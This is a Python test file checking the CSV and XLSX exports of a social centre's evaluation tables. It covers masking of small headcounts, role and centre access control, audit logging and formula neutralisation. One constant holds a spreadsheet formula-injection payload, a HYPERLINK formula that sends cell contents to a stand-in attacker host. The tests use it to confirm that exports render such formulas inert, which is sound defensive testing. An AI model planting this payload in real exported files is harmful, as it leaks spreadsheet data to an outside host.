"""CSV and XLSX of the evaluation tables: "< 5" masking, BOM and ';', formulas neutralised, roles,
centre isolation, file names, audit, and bad arguments that never fail."""

import csv
import io
import json
import re
import zipfile
from datetime import date

import pytest
import sqlalchemy as sa

from app.audit import AuditEvent
from app.centres.models import Role
from app.evaluation.models import Action, Axis, HeadCount, Objective, SocialProject
from app.extensions import db
from app.factories import make_structure
from app.timeutil import local_today

EVIL = '=HYPERLINK("http://pirate.example/?d="&A1,"Cliquez ici")'
YEAR = local_today().year


def _project(structure, *, action_title="Atelier cuisine", partners="Caf, école Jean-Moulin"):
    project = SocialProject(
        structure_id=structure.id,
        title="Vivre ensemble",
        starts_on=date(YEAR - 1, 1, 1),
        ends_on=date(YEAR + 2, 12, 31),
    )
    axis = Axis(project=project, title="Participation des habitants", position=1)
    objective = Objective(axis=axis, title="Développer le pouvoir d'agir", position=1)
    action = Action(objective=objective, title=action_title, publics="Familles", partners=partners)
    db.session.add_all([project, axis, objective, action])
    db.session.flush()
    return project, action


def _count(structure, total, *, day=None, action=None, label="Fête de quartier", **brackets):
    count = HeadCount(
        structure_id=structure.id,
        occurred_on=day or date(YEAR, 3, 14),
        label=label,
        total=total,
        action_id=action.id if action else None,
        **brackets,
    )
    db.session.add(count)
    db.session.flush()
    return count


def _csv(response) -> list[list[str]]:
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel in French reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def _xlsx(response) -> tuple[str, str]:
    with zipfile.ZipFile(io.BytesIO(response.data)) as workbook:
        return (
            workbook.read("xl/worksheets/sheet1.xml").decode(),
            workbook.read("xl/sharedStrings.xml").decode(),
        )


def _numbers_in_column(sheet: str, column: str) -> list[int]:
    """Numeric cells (not shared strings) of a column of a worksheet's XML, header row excluded."""
    cells = re.findall(rf'<c r="{column}(\d+)"([^>]*)><v>([^<]*)</v></c>', sheet)
    return [int(float(value)) for row, attributes, value in cells if row != "1" and 't="s"' not in attributes]


@pytest.fixture
def staff(make_user):
    return make_user(role=Role.STAFF, display_name="Julie Bernard")


@pytest.fixture
def counts(structure):
    """Headcounts of 0, 1, 4 and 5 people (and brackets 2 / 3) in this year."""
    for total in (0, 1, 4, 5):
        _count(structure, total, label=f"Comptage de {total}", day=date(YEAR, 3, 1 + total))
    _count(structure, 5, label="Avec tranches", day=date(YEAR, 4, 1), under_11=2, age_60_plus=3)
    db.session.commit()


def test_headcounts_csv_masks_one_to_four(client, auth, staff, counts):
    auth.login(staff)
    response = client.get(f"/evaluation/export/comptages.csv?annee={YEAR}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="ensemble-comptages-{YEAR}.csv"'
    rows = _csv(response)
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Date", "Libellé", "Total", "0 à 10 ans"]
    totals = {row[1]: row[2] for row in body}
    assert totals == {
        "Comptage de 0": "0",
        "Comptage de 1": "< 5",
        "Comptage de 4": "< 5",
        "Comptage de 5": "5",
        "Avec tranches": "5",
    }
    with_brackets = next(row for row in body if row[1] == "Avec tranches")
    assert with_brackets[3] == "< 5" and with_brackets[6] == "< 5"  # 2 under 11, 3 aged 60+
    assert with_brackets[4] == ""  # not given stays empty


def test_headcounts_xlsx_masks_one_to_four(client, auth, staff, counts):
    auth.login(staff)
    response = client.get(f"/evaluation/export/comptages.xlsx?annee={YEAR}")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert f'filename="ensemble-comptages-{YEAR}.xlsx"' in response.headers["Content-Disposition"]
    sheet, strings = _xlsx(response)
    assert "&lt; 5" in strings  # the text "< 5", not a number
    totals = _numbers_in_column(sheet, "C")  # the "Total" column
    assert sorted(totals) == [0, 5, 5]  # 0 and 5 stay numbers; 1 and 4 are the text "< 5"


def test_actions_csv_neutralises_formulas_and_masks(client, auth, structure, staff):
    _project_, action = _project(structure, action_title=EVIL, partners="@SUM(1+1)")
    _count(structure, 3, action=action)
    db.session.commit()
    auth.login(staff)
    response = client.get(f"/evaluation/export/actions.csv?annee={YEAR}")
    assert response.status_code == 200
    rows = _csv(response)
    assert rows[0][:3] == ["Axe", "Objectif", "Action"]
    row = rows[1]
    assert row[2] == "'" + EVIL  # a spreadsheet shows the text, never runs it
    assert row[7] == "'@SUM(1+1)"
    assert row[4] == "< 5" and row[5] == "< 5"  # one session, three people

    xlsx = client.get(f"/evaluation/export/actions.xlsx?annee={YEAR}")
    sheet, strings = _xlsx(xlsx)
    assert "<f>" not in sheet  # no formula anywhere
    assert "HYPERLINK" in strings  # kept as text


def test_figures_table_has_the_catalogue_with_previous_period(client, auth, structure, staff):
    _count(structure, 3, day=date(YEAR, 2, 1))
    _count(structure, 7, day=date(YEAR - 1, 2, 1))
    db.session.commit()
    auth.login(staff)
    response = client.get(f"/evaluation/export/chiffres.csv?annee={YEAR}")
    rows = _csv(response)
    assert rows[0][:6] == ["Code", "Indicateur", "Valeur", "Unité", "Définition", "Période précédente"]
    by_code = {row[0]: row for row in rows[1:]}
    assert {"B1", "U1"} <= set(by_code)
    u1 = by_code["U1"]
    assert u1[2] == "0" and u1[6] == "< 5"  # nobody named, three people counted anonymously beside
    assert u1[4]  # the definition


def test_indicators_table_header_and_empty_without_project(client, auth, staff):
    auth.login(staff)
    rows = _csv(client.get("/evaluation/export/indicateurs.csv"))
    assert rows[0][:4] == ["Indicateur", "Axe", "Objectif", "Action"]
    assert rows[1:] == []


def test_export_is_logged(client, auth, structure, staff, counts):
    auth.login(staff)
    client.get(f"/evaluation/export/comptages.csv?annee={YEAR}")
    event = db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == "data_export")).one()
    details = json.loads(event.details)
    assert event.actor_id == staff.id and event.structure_id == structure.id
    assert details["export"] == "evaluation.comptages" and details["format"] == "csv" and details["rows"] == 5


@pytest.mark.parametrize(
    "path",
    [
        "/evaluation/export/inconnu.csv",
        "/evaluation/export/chiffres.pdf",
        "/evaluation/export/chiffres.CSV",
        "/evaluation/senacs.pdf",
    ],
)
def test_unknown_table_or_format_is_404(client, auth, staff, path):
    auth.login(staff)
    assert client.get(path).status_code == 404


def test_anonymous_goes_to_login(client, structure):
    response = client.get("/evaluation/export/chiffres.csv")
    assert response.status_code == 302
    assert "/compte/connexion" in response.headers["Location"]


def test_habitant_is_refused(client, auth, make_user):
    auth.login(make_user(role=Role.HABITANT))
    assert client.get("/evaluation/export/chiffres.csv").status_code == 403
    assert client.get("/evaluation/export/comptages.xlsx").status_code == 403


def test_staff_of_another_centre_cannot_export_it(client, auth, structure, staff):
    other = make_structure("Centre social Voisin")
    _count(other, 12, label="Chez le voisin")
    db.session.commit()
    auth.login(staff)
    assert client.get(f"/evaluation/export/comptages.csv?centre={other.id}").status_code == 404
    assert client.get("/evaluation/export/comptages.csv?centre=all").status_code == 404
    own = _csv(client.get(f"/evaluation/export/comptages.csv?annee={YEAR}"))
    assert all(row[1] != "Chez le voisin" for row in own[1:])


def test_platform_admin_exports_every_centre(client, auth, structure, make_user):
    other = make_structure("Centre social Voisin")
    _count(structure, 6, label="Ici")
    _count(other, 12, label="Chez le voisin")
    db.session.commit()
    auth.login(make_user(role=Role.ADMIN, is_platform_admin=True))
    rows = _csv(client.get(f"/evaluation/export/comptages.csv?annee={YEAR}&centre=all"))
    assert rows[0][1] == "Centre"
    assert {row[2] for row in rows[1:]} == {"Ici", "Chez le voisin"}
    only_other = _csv(client.get(f"/evaluation/export/comptages.csv?annee={YEAR}&centre={other.id}"))
    assert [row[1] for row in only_other[1:]] == ["Chez le voisin"]


@pytest.mark.parametrize(
    "query",
    [
        "du=hier&au=demain",
        "du=2025-12-31&au=2025-01-01",
        "du=2000-01-01&au=2030-01-01",
        "annee=abc",
        "annee=99999",
        "annee=",
        "periode=projet",
        "centre=abc",
        "centre=999999",
        "du=2025-02-30&au=2025-03-01",
    ],
)
@pytest.mark.parametrize("table", ["chiffres", "indicateurs", "actions", "comptages", "senacs"])
def test_bad_arguments_never_fail(client, auth, staff, table, query):
    auth.login(staff)
    response = client.get(f"/evaluation/export/{table}.csv?{query}", follow_redirects=True)
    assert response.status_code in (200, 404)


def test_custom_period_file_name(client, auth, staff):
    auth.login(staff)
    response = client.get("/evaluation/export/chiffres.csv?du=2025-01-01&au=2025-06-30")
    assert 'filename="ensemble-chiffres-2025-01-01_2025-06-30.csv"' in response.headers["Content-Disposition"]
